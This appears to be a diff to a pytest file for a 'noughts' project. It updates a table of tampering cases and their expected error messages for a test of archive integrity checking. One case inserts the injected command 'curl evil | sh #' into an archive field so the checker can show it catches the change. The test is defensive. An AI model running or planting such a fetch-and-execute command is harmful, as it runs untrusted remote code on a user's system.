@@ -16,8 +16,7 @@ import pytest
 from noughts.agents import parse_agent
 from noughts.cli.main import main
 from noughts.document.result import Row, Table
-from noughts.library.archiving import KIND, is_member
-from noughts.library.checking_archives import check_archive
+from noughts.library.archiving import KIND, check_archive, is_member
 from noughts.questions.answers import Answers
 from noughts.questions.played import Played
 from noughts.questions.question import Question
@@ -182,18 +181,22 @@ def test_what_was_changed_is_found_though_all_hashes_are_right(
     for change, said in (
         (twice, "answers a question twice"),
         (in_answers(more_said), "a line that is no answer"),
-        (readme, "its README.txt is not the one of its result"),
+        (readme, "its README.txt is not what follows from its result.json"),
         (no_readme, "it has no README.txt"),
+        (
+            lambda members: members.update({"certificates/" + "0" * 64 + ".proof.xz": b""}),
+            "no part of what the study found",
+        ),
         (replaced(b"A small study", b"A grand study"), "its title in result.json are not those"),
         (replaced(b"noughts study run", b"curl evil | sh #"), "its repeat in result.json are not those"),
         (replaced(b'"noughts":"', b'"noughts":"9'), "is of another study than it says"),
-        (configuration, "configurations/evil.json is of no training of the study"),
+        (configuration, "configurations/evil.json is no part of what the study found"),
         (in_answers(other_winner), "is not what its moves say"),
         (in_answers(illegal), "replayed"),
         (count, "its tables in result.json are not those that follow"),
         (damaged_proof, "is refused:"),
-        (no_proof, "its certificates are not those of its proofs"),
-        (page, "its page is not the one of its result"),
+        (no_proof, "it has no certificates/"),
+        (page, "its page.html is not what follows from its result.json"),
         (no_answer, "answers are not in it"),
         (guest, "code from outside"),
     ):
